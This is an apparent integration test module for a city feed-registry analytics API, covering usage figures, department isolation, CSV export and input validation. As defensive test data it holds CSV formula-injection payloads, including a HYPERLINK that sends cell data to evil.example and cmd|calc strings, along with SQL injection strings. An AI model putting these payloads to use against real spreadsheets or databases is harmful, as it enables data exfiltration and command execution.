"""Analytics answers equal the same figures computed in Python from the produced events, and a
department never sees another department's rows.

The API and the stream worker run in this process as in the embedded default (one chdb
directory, one client); events go through the real broker.
"""

from __future__ import annotations

import csv
import io
import random
from collections import Counter, defaultdict
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import httpx
import numpy as np
import pytest
import pytest_asyncio

from registry_api.access.policy import add_working_days
from registry_api.app import create_app
from schemas.events import CloudEvent
from schemas.settings import Settings
from tests.integration.streams_support import (
    ACCESS_TOPIC,
    ADMIN_TOKEN,
    FEED_TOPIC,
    HEARTBEAT_TOPIC,
    Retrieval,
    access_event,
    close_analytics,
    fast_tuning,
    feed_document,
    feed_event,
    grant_issued,
    heartbeat_event,
    make_settings,
    produce,
    running_worker,
    wait_for_value,
)
from tests.topic_prefixes import new_topic_prefix

# One city for the whole module: building it (Kafka, the agents, ClickHouse) is the slow part.
pytestmark = [pytest.mark.kafka, pytest.mark.asyncio(loop_scope="module")]

DEADLINES = {"lz-psb": 3, "lz-jtj": 5, "lz-cgj": 2, "lz-hbj": 10}
OWNERS = ["lz-psb", "lz-cgj", "lz-hbj"]
FEEDS = 12
NEVER_RETRIEVED = {"feed-10", "feed-11"}
OFFLINE = "feed-8"
NEVER_ONLINE = {"feed-9", "feed-10", "feed-11"}
# Names a spreadsheet would run as formulas, on feeds every dormant-feeds answer lists.
FORMULA_NAMES = {
    OFFLINE: '=HYPERLINK("http://evil.example/?"&A1,"details")',
    "feed-9": "+cmd|' /C calc'!A0",
    "feed-10": "-2+3+cmd|' /C calc'!A0",
    "feed-11": "@SUM(1+1)*cmd|' /C calc'!A0",
}
CITY_TIMEZONE = "Asia/Shanghai"


@dataclass
class City:
    """The produced events and the facts the Python side computes from."""

    now: datetime
    feeds: dict[str, dict[str, Any]] = field(default_factory=dict)
    retrievals: list[Retrieval] = field(default_factory=list)
    denied: list[tuple[str, str, datetime]] = field(default_factory=list)
    requests: list[dict[str, Any]] = field(default_factory=list)
    ungranted: list[Retrieval] = field(default_factory=list)
    grants: set[tuple[str, str]] = field(default_factory=set)
    events: list[CloudEvent] = field(default_factory=list)

    def owner(self, feed_id: str) -> str:
        return str(self.feeds[feed_id]["owner"])


def build_city(now: datetime) -> City:
    rng = random.Random(20260501)
    city = City(now=now)
    for index in range(FEEDS):
        feed_id = f"feed-{index}"
        city.feeds[feed_id] = feed_document(
            feed_id,
            OWNERS[index % 3],
            kind="camera" if index % 4 else "sensor",
            serial=index + 1,
            region="62010200" if index % 2 else "62010300",
            sharing_class=("unconditional", "conditional", "not_shared")[index % 3],
            status="unknown" if feed_id in NEVER_ONLINE else "online",
        )
        if feed_id in FORMULA_NAMES:
            city.feeds[feed_id]["name"] = FORMULA_NAMES[feed_id]
    city.feeds["feed-11"]["location"] = None  # a catalog channel without coordinates
    window = (now - timedelta(days=30), now + timedelta(days=30))
    granted = city.grants
    for _ in range(300):
        feed_id = f"feed-{rng.randrange(10)}"
        department = rng.choice(list(DEADLINES))
        user = f"{department}-u{rng.randrange(5)}"
        if (feed_id, department) not in granted:
            granted.add((feed_id, department))
            city.events.append(
                grant_issued(feed_id, f"g-{feed_id}-{department}", department, *window)
            )
        started = now - timedelta(minutes=rng.randrange(10, 300), seconds=rng.randrange(60))
        retrieval = Retrieval(
            feed_id,
            department,
            user,
            f"g-{feed_id}-{department}",
            started,
            rng.randrange(1, 600) / 4,
            rng.randrange(1_000, 5_000_000),
        )
        city.retrievals.append(retrieval)
        city.events += retrieval.events()
    for index in range(3):  # retrievals nobody granted: alerts
        started = now - timedelta(minutes=30 + index)
        retrieval = Retrieval(f"feed-{index}", "lz-jtj", "lz-jtj-rogue", "", started, 1.0, 10)
        city.ungranted.append(retrieval)
        city.retrievals.append(retrieval)
        city.events += retrieval.events()
    for _ in range(20):
        feed_id = f"feed-{rng.randrange(10)}"
        department = rng.choice(list(DEADLINES))
        moment = now - timedelta(minutes=rng.randrange(10, 300))
        city.denied.append((feed_id, department, moment))
        city.events.append(
            access_event(
                "retrieval.denied",
                feed_id,
                moment,
                requester_department=department,
                requester_user=f"{department}-u0",
                decision="denied",
                reason="no_token",
            )
        )
    for index in range(40):
        feed_id = f"feed-{rng.randrange(FEEDS)}"
        department = rng.choice(list(DEADLINES))
        requested = now - timedelta(days=rng.uniform(0.2, 9.5))
        outcome = rng.choice(["granted", "denied", "pending"])
        decided = None
        if outcome != "pending":
            decided = min(
                now - timedelta(minutes=1), requested + timedelta(hours=rng.uniform(0.1, 150))
            )
        request = {
            "request_id": f"req-{index}",
            "feed_id": feed_id,
            "owner": city.owner(feed_id),
            "requester": department,
            "requested_at": requested,
            "decided_at": decided,
            "decision": outcome,
            "reason": rng.choice(["purpose_not_in_conditions", "denied_by_owner"])
            if outcome == "denied"
            else "",
        }
        city.requests.append(request)
        common = {
            "request_id": request["request_id"],
            "requester_department": department,
            "requester_user": f"{department}-u1",
            "requested_at": requested,
        }
        city.events.append(
            access_event("access.requested", feed_id, requested, decision="pending", **common)
        )
        if decided is not None:
            city.events.append(
                access_event(
                    "access.decided",
                    feed_id,
                    decided,
                    decision=outcome,
                    reason=request["reason"] or None,
                    decided_at=decided,
                    **common,
                )
            )
    return city


# ------------------------------------------------------------------------------ python side


def working_day_deadline(requested: datetime, days: int) -> datetime:
    """The registry's own due time for a request (its policy module)."""
    return add_working_days(requested, days, ZoneInfo(CITY_TIMEZONE))


def expected_usage(city: City, key: Any) -> dict[Any, dict[str, Any]]:
    figures: dict[Any, dict[str, Any]] = defaultdict(
        lambda: {"retrievals": 0, "denied": 0, "bytes": 0, "seconds": 0.0, "requesters": set()}
    )
    for retrieval in city.retrievals:
        owner = city.owner(retrieval.feed_id)
        cell = figures[
            key(retrieval.started_at, retrieval.feed_id, owner, retrieval.requester_department)
        ]
        cell["retrievals"] += 1
        cell["requesters"].add(f"{retrieval.requester_department}/{retrieval.requester_user}")
        ended = key(
            retrieval.started_at + timedelta(seconds=retrieval.seconds),
            retrieval.feed_id,
            owner,
            retrieval.requester_department,
        )
        figures[ended]["bytes"] += retrieval.bytes
        figures[ended]["seconds"] += retrieval.seconds
    for feed_id, department, moment in city.denied:
        figures[key(moment, feed_id, city.owner(feed_id), department)]["denied"] += 1
    return {
        group: {**cell, "requesters": len(cell["requesters"]), "seconds": round(cell["seconds"], 3)}
        for group, cell in figures.items()
    }


def hour_of(moment: datetime) -> datetime:
    return moment.replace(minute=0, second=0, microsecond=0)


def visible(department: str | None, owner: str, requester: str) -> bool:
    return department is None or department in (owner, requester)


# ------------------------------------------------------------------------------ fixtures


@pytest.fixture(scope="module")
def analytics_settings(
    tmp_path_factory: pytest.TempPathFactory, kafka_bootstrap: str, sqlite_template: Path
) -> Iterator[Settings]:
    prefix = new_topic_prefix()
    settings = make_settings(
        tmp_path_factory.mktemp("analytics"), kafka_bootstrap, prefix, sqlite_template
    ).model_copy(update={"city_timezone": CITY_TIMEZONE})
    yield settings
    close_analytics(settings)


@dataclass
class Callers:
    operator: httpx.AsyncClient
    admin: httpx.AsyncClient
    transport_user: httpx.AsyncClient  # lz-jtj requester
    police_admin: httpx.AsyncClient  # lz-psb dept admin


def expected_alerts(city: City) -> Counter[str]:
    """The rogue retrievals, and one alert per grant in force when the offline feed went down."""
    offline = sum(1 for feed, _ in city.grants if feed == OFFLINE)
    return Counter(
        {"retrieval_without_grant": len(city.ungranted), "feed_offline_while_granted": offline}
    )


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def callers(analytics_settings: Settings) -> AsyncIterator[tuple[Callers, City]]:
    application = create_app(analytics_settings)
    now = datetime.now(UTC).replace(microsecond=0)
    city = build_city(now)
    async with application.router.lifespan_context(application):
        transport = httpx.ASGITransport(app=application)
        admin = httpx.AsyncClient(
            transport=transport,
            base_url="http://t",
            headers={"Authorization": f"Bearer {ADMIN_TOKEN}"},
        )
        for code, days in DEADLINES.items():
            response = await admin.post(
                "/v1/departments",
                json={"code": code, "name": code, "kind": "other", "answer_deadline_days": days},
            )
            assert response.status_code == 201, response.text

        async def caller(department: str, roles: list[str]) -> httpx.AsyncClient:
            issued = await admin.post(
                f"/v1/departments/{department}/api-keys", json={"name": "t", "roles": roles}
            )
            key = issued.json()["key"]
            return httpx.AsyncClient(
                transport=transport, base_url="http://t", headers={"Authorization": f"Bearer {key}"}
            )

        people = Callers(
            operator=await caller("lz-hbj", ["operator"]),
            admin=admin,
            transport_user=await caller("lz-jtj", ["requester"]),
            police_admin=await caller("lz-psb", ["dept_admin"]),
        )
        tuning = fast_tuning(heartbeat_silence_seconds=600, harvest_feeds_per_minute=1_000)
        async with running_worker(analytics_settings, tuning):
            await produce(
                analytics_settings,
                FEED_TOPIC,
                [feed_event(document) for document in city.feeds.values()],
            )
            await wait_for_value(
                analytics_settings, "SELECT uniqExact(feed_id) FROM feed_metadata", FEEDS
            )
            await produce(analytics_settings, ACCESS_TOPIC, city.events)
            await wait_for_value(
                analytics_settings, "SELECT count() FROM access_events", len(city.events)
            )
            # Topics are not ordered with each other: the grants are in before feeds go offline.
            seen = datetime.now(UTC)
            beats = [heartbeat_event(f"feed-{index}", seen) for index in range(9)]
            beats.append(heartbeat_event(OFFLINE, seen + timedelta(seconds=1), status="offline"))
            await produce(analytics_settings, HEARTBEAT_TOPIC, beats)
            await wait_for_value(analytics_settings, "SELECT count() FROM feed_status FINAL", 10)
            await wait_for_value(
                analytics_settings,
                "SELECT count() FROM alerts FINAL",
                sum(expected_alerts(city).values()),
            )
            yield people, city
        for client in (people.operator, people.transport_user, people.police_admin, admin):
            await client.aclose()


def period(city: City, days: float = 1) -> dict[str, str]:
    return {
        "from": (city.now - timedelta(days=days)).isoformat(),
        "to": (city.now + timedelta(hours=1)).isoformat(),
    }


# ------------------------------------------------------------------------------ tests


async def test_usage_per_hour_equals_the_events(callers: tuple[Callers, City]) -> None:
    people, city = callers
    for group_by, pick in (
        ("owner_department", lambda owner, requester, feed: owner),
        ("requester_department", lambda owner, requester, feed: requester),
        ("feed", lambda owner, requester, feed: feed),
    ):
        response = await people.operator.get(
            "/v1/analytics/usage",
            params={**period(city), "granularity": "hour", "group_by": group_by},
        )
        assert response.status_code == 200, response.text
        body = response.json()
        assert body["scope"] == "city"
        got = {
            (datetime.fromisoformat(row["bucket"]), row["group"]): {
                key: row[key] for key in ("retrievals", "denied", "bytes", "seconds", "requesters")
            }
            for row in body["rows"]
        }
        expected = expected_usage(
            city,
            lambda moment, feed, owner, requester, pick=pick: (
                hour_of(moment),
                pick(owner, requester, feed),
            ),
        )
        assert got == expected, group_by


async def test_usage_per_day_and_minute_with_filters(callers: tuple[Callers, City]) -> None:
    people, city = callers
    response = await people.operator.get(
        "/v1/analytics/usage",
        params={
            **period(city),
            "granularity": "day",
            "group_by": "kind",
            "owner_department": "lz-psb",
        },
    )
    rows = response.json()["rows"]
    # The city's retrievals span the last five hours: after midnight UTC, two day buckets.
    day: Counter[str] = Counter()
    for row in rows:
        day[row["group"]] += row["retrievals"]
    starts = Counter(
        "sensor" if int(r.feed_id.split("-")[1]) % 4 == 0 else "camera"
        for r in city.retrievals
        if city.owner(r.feed_id) == "lz-psb"
    )
    assert sum(day.values()) == sum(starts.values())
    assert {kind: day.get(kind, 0) for kind in starts} == dict(starts)

    response = await people.operator.get(
        "/v1/analytics/usage",
        params={**period(city), "granularity": "minute", "group_by": "region", "feed_id": "feed-3"},
    )
    minute = {
        (row["bucket"], row["group"]): row["retrievals"]
        for row in response.json()["rows"]
        if row["retrievals"]
    }
    expected = Counter(
        (r.started_at.replace(second=0).isoformat().replace("+00:00", "Z"), "620102")
        for r in city.retrievals
        if r.feed_id == "feed-3"
    )
    assert sum(minute.values()) == sum(expected.values())
    assert {region for _, region in minute} == {"620102"}


async def test_sharing_matrix_and_top_feeds_equal_the_events(callers: tuple[Callers, City]) -> None:
    people, city = callers
    body = (await people.operator.get("/v1/analytics/sharing-matrix", params=period(city))).json()
    got = {
        (row["owner_department"], row["requester_department"]): (
            row["retrievals"],
            row["bytes"],
            row["requesters"],
        )
        for row in body["rows"]
    }
    expected = expected_usage(city, lambda moment, feed, owner, requester: (owner, requester))
    assert got == {
        key: (cell["retrievals"], cell["bytes"], cell["requesters"])
        for key, cell in expected.items()
    }

    body = (
        await people.operator.get("/v1/analytics/top-feeds", params={**period(city), "limit": 5})
    ).json()
    per_feed = Counter(retrieval.feed_id for retrieval in city.retrievals)
    ranked = sorted(per_feed.items(), key=lambda item: (-item[1], item[0]))[:5]
    assert [(row["feed_id"], row["retrievals"]) for row in body["rows"]] == ranked
    by_bytes = (
        await people.operator.get(
            "/v1/analytics/top-feeds", params={**period(city), "metric": "bytes"}
        )
    ).json()
    feed_bytes: defaultdict[str, int] = defaultdict(int)
    for retrieval in city.retrievals:
        feed_bytes[retrieval.feed_id] += retrieval.bytes
    assert [row["feed_id"] for row in by_bytes["rows"]] == sorted(
        feed_bytes, key=lambda feed: (-feed_bytes[feed], feed)
    )


async def test_long_periods_read_daily_rollups_and_agree_with_hourly_ones(
    callers: tuple[Callers, City],
) -> None:
    people, city = callers
    usage_keys = ("retrievals_by_others", "bytes_by_others", "departments_served")
    for path in ("sharing-matrix", "top-feeds", "scorecards"):
        url = f"/v1/analytics/{path}"
        short = (await people.operator.get(url, params={**period(city), "limit": 50})).json()
        long = (await people.operator.get(url, params={**period(city, days=9), "limit": 50})).json()
        short_rows, long_rows = short["rows"], long["rows"]
        if path == "scorecards":  # requests were made over ten days: compare the usage only
            short_rows = [{key: row[key] for key in usage_keys} for row in short_rows]
            long_rows = [{key: row[key] for key in usage_keys} for row in long_rows]
        assert short_rows == long_rows, path
    # Two whole days around every event: answered from the per-day rollups alone (the
    # city-wide ones and, for a department's ranking, the one by requester department).
    today = city.now.replace(hour=0, minute=0, second=0)
    days = {
        "from": (today - timedelta(days=1)).isoformat(),
        "to": (today + timedelta(days=1)).isoformat(),
    }
    for caller in (people.operator, people.transport_user, people.police_admin):
        url = "/v1/analytics/top-feeds"
        hours = (await caller.get(url, params={**period(city), "limit": 50})).json()
        whole = (await caller.get(url, params={**days, "limit": 50})).json()
        assert hours["rows"] and hours["rows"] == whole["rows"]
    dormant = (
        await people.operator.get("/v1/analytics/dormant-feeds", params=period(city, days=9))
    ).json()
    assert {row["feed_id"] for row in dormant["rows"]} == {OFFLINE, *NEVER_ONLINE}


async def test_decisions_equal_the_requests(callers: tuple[Callers, City]) -> None:
    people, city = callers
    body = (
        await people.operator.get("/v1/analytics/decisions", params=period(city, days=10))
    ).json()
    outcomes = Counter(request["decision"] for request in city.requests)
    expected = {key: outcomes.get(key, 0) for key in ("granted", "denied", "pending")}
    assert body["totals"] == {**expected, "escalated": 0}  # nothing was left past its due time
    reasons = Counter(
        request["reason"] for request in city.requests if request["decision"] == "denied"
    )
    assert {item["reason"]: item["count"] for item in body["deny_reasons"]} == dict(reasons)
    rows = {row["owner_department"]: row for row in body["rows"]}
    assert set(rows) == {request["owner"] for request in city.requests}
    for owner, row in rows.items():
        mine = [request for request in city.requests if request["owner"] == owner]
        answered = [request for request in mine if request["decided_at"] is not None]
        seconds = [(r["decided_at"] - r["requested_at"]).total_seconds() for r in answered]
        deadline = {id(r): working_day_deadline(r["requested_at"], DEADLINES[owner]) for r in mine}
        within = sum(1 for r in answered if r["decided_at"] <= deadline[id(r)])
        due = sum(1 for r in mine if r["decided_at"] is not None or deadline[id(r)] <= city.now)
        assert row["requests"] == len(mine)
        assert row["answered"] == len(answered)
        assert row["answered_within_deadline"] == within
        assert row["due"] == due
        if seconds:
            median, p95 = np.percentile(seconds, [50, 95])
            assert row["median_seconds_to_decision"] == pytest.approx(median, abs=0.01)
            assert row["p95_seconds_to_decision"] == pytest.approx(p95, abs=0.01)


async def test_dormant_feeds_and_scorecards_equal_the_catalog(
    callers: tuple[Callers, City],
) -> None:
    people, city = callers
    body = (await people.operator.get("/v1/analytics/dormant-feeds", params=period(city))).json()
    reasons = {row["feed_id"]: set(row["reasons"]) for row in body["rows"]}
    assert reasons == {
        OFFLINE: {"offline"},
        "feed-9": {"never_online"},
        "feed-10": {"never_retrieved", "never_online"},
        "feed-11": {"never_retrieved", "never_online"},
    }
    assert body["total"] == 4

    cards = {
        row["department"]: row
        for row in (
            await people.operator.get("/v1/analytics/scorecards", params=period(city, days=10))
        ).json()["rows"]
    }
    assert set(cards) == set(DEADLINES)
    for department in DEADLINES:
        mine = [feed for feed in city.feeds.values() if feed["owner"] == department]
        card = cards[department]
        assert card["feeds"] == len(mine)
        assert card["feeds_unconditional"] == sum(
            1 for feed in mine if feed["sharing"]["class"] == "unconditional"
        )
        online = [f for f in mine if f["id"] not in NEVER_ONLINE and f["id"] != OFFLINE]
        assert card["feeds_online"] == len(online)
        assert card["feeds_unplaced"] == sum(1 for feed in mine if feed["location"] is None)
        by_others = [
            r
            for r in city.retrievals
            if city.owner(r.feed_id) == department and r.requester_department != department
        ]
        of_others = [
            r
            for r in city.retrievals
            if r.requester_department == department and city.owner(r.feed_id) != department
        ]
        assert card["retrievals_by_others"] == len(by_others)
        assert card["bytes_by_others"] == sum(r.bytes for r in by_others)
        assert card["departments_served"] == len({r.requester_department for r in by_others})
        assert card["retrievals_of_others"] == len(of_others)
        assert card["departments_used"] == len({city.owner(r.feed_id) for r in of_others})
        received = [r for r in city.requests if r["owner"] == department]
        assert card["requests_received"] == len(received)
        assert card["requests_answered"] == sum(1 for r in received if r["decided_at"] is not None)


async def test_alerts_are_listed_with_counts(callers: tuple[Callers, City]) -> None:
    people, city = callers
    body = (await people.operator.get("/v1/analytics/alerts", params=period(city))).json()
    assert body["counts"] == dict(expected_alerts(city))
    rogue = [row for row in body["rows"] if row["rule"] == "retrieval_without_grant"]
    assert {row["feed_id"] for row in rogue} == {r.feed_id for r in city.ungranted}
    assert all(row["requester_user"] == "lz-jtj-rogue" for row in rogue)
    offline = [row for row in body["rows"] if row["rule"] == "feed_offline_while_granted"]
    assert {row["requester_department"] for row in offline} == {
        d for f, d in city.grants if f == OFFLINE
    }


async def test_a_department_never_sees_another_departments_rows(
    callers: tuple[Callers, City],
) -> None:
    people, city = callers
    for client, department in ((people.transport_user, "lz-jtj"), (people.police_admin, "lz-psb")):
        usage = (
            await client.get("/v1/analytics/usage", params={**period(city), "group_by": "feed"})
        ).json()
        assert usage["scope"] == department
        expected = expected_usage(
            city,
            lambda moment, feed, owner, requester, department=department: (
                (hour_of(moment), feed) if visible(department, owner, requester) else None
            ),
        )
        expected.pop(None, None)
        got = {
            (datetime.fromisoformat(row["bucket"]), row["group"]): row["retrievals"]
            for row in usage["rows"]
        }
        assert got == {key: cell["retrievals"] for key, cell in expected.items()}

        matrix = (await client.get("/v1/analytics/sharing-matrix", params=period(city))).json()
        assert matrix["rows"] and all(
            department in (row["owner_department"], row["requester_department"])
            for row in matrix["rows"]
        )
        decisions = (
            await client.get("/v1/analytics/decisions", params=period(city, days=10))
        ).json()
        visible_requests = [r for r in city.requests if department in (r["owner"], r["requester"])]
        assert sum(row["requests"] for row in decisions["rows"]) == len(visible_requests)
        alerts = (await client.get("/v1/analytics/alerts", params=period(city))).json()
        assert all(
            department in (row["owner_department"], row["requester_department"])
            for row in alerts["rows"]
        )
        dormant = (await client.get("/v1/analytics/dormant-feeds", params=period(city))).json()
        assert all(row["owner_department"] == department for row in dormant["rows"])
        cards = (await client.get("/v1/analytics/scorecards", params=period(city))).json()
        assert [row["department"] for row in cards["rows"]] == [department]
        top = (
            await client.get("/v1/analytics/top-feeds", params={**period(city), "limit": 100})
        ).json()
        per_feed = Counter(
            r.feed_id
            for r in city.retrievals
            if visible(department, city.owner(r.feed_id), r.requester_department)
        )
        assert {row["feed_id"]: row["retrievals"] for row in top["rows"]} == dict(per_feed)
    alerts = (await people.transport_user.get("/v1/analytics/alerts", params=period(city))).json()
    jtj_offline = 1 if (OFFLINE, "lz-jtj") in city.grants else 0
    assert alerts["total"] == len(city.ungranted) + jtj_offline  # the rogue ones were lz-jtj's
    hidden = (
        await people.police_admin.get(
            "/v1/analytics/alerts", params={**period(city), "requester_department": "lz-jtj"}
        )
    ).json()
    owned = [r for r in city.ungranted if city.owner(r.feed_id) == "lz-psb"]
    assert hidden["total"] == len(owned)


async def test_csv_export_holds_the_same_rows(callers: tuple[Callers, City]) -> None:
    people, city = callers
    for path, params in (
        ("/v1/analytics/usage", {**period(city), "group_by": "requester_department"}),
        ("/v1/analytics/sharing-matrix", period(city)),
        ("/v1/analytics/top-feeds", period(city)),
        ("/v1/analytics/alerts", period(city)),
        ("/v1/analytics/decisions", period(city, days=10)),
        ("/v1/analytics/dormant-feeds", period(city)),
        ("/v1/analytics/scorecards", period(city)),
    ):
        as_json = (await people.operator.get(path, params=params)).json()["rows"]
        response = await people.operator.get(path, params=params, headers={"Accept": "text/csv"})
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        table = list(csv.DictReader(io.StringIO(response.text)))
        assert len(table) == len(as_json), path
        if as_json:
            assert list(table[0]) == list(as_json[0]), path


async def test_csv_export_neutralises_names_a_spreadsheet_would_run_as_formulas(
    callers: tuple[Callers, City],
) -> None:
    people, city = callers
    params = period(city, days=9)
    as_json = (await people.operator.get("/v1/analytics/dormant-feeds", params=params)).json()
    response = await people.operator.get(
        "/v1/analytics/dormant-feeds", params=params, headers={"Accept": "text/csv"}
    )
    assert response.status_code == 200
    table = {row["feed_id"]: row for row in csv.DictReader(io.StringIO(response.text))}
    assert set(FORMULA_NAMES) <= set(table)
    for feed_id, name in FORMULA_NAMES.items():
        assert table[feed_id]["name"] == "'" + name, table[feed_id]
    # JSON answers carry the names as they are; numbers stay numbers in the CSV
    names = {row["feed_id"]: row["name"] for row in as_json["rows"]}
    assert all(names[feed_id] == name for feed_id, name in FORMULA_NAMES.items())
    assert all(row["retrievals"].isdigit() for row in table.values())


async def test_analytics_parameters_are_validated(callers: tuple[Callers, City]) -> None:
    people, city = callers
    bad = [
        {"from": "2026-01-02T00:00:00Z", "to": "2026-01-01T00:00:00Z"},
        {"group_by": "owner_department; DROP TABLE access_events"},
        {"owner_department": "x' OR 1=1 --"},
        {"granularity": "week"},
    ]
    for params in bad:
        response = await people.operator.get("/v1/analytics/usage", params=params)
        assert response.status_code == 422, params
    old = {"from": "2020-01-01T00:00:00Z", "to": "2020-01-02T00:00:00Z", "granularity": "minute"}
    refused = await people.operator.get("/v1/analytics/usage", params=old)
    assert refused.status_code == 422 and refused.json()["code"] == "granularity_out_of_range"
    assert (
        await people.operator.get("/v1/analytics/usage", headers={"Authorization": ""})
    ).status_code == 401
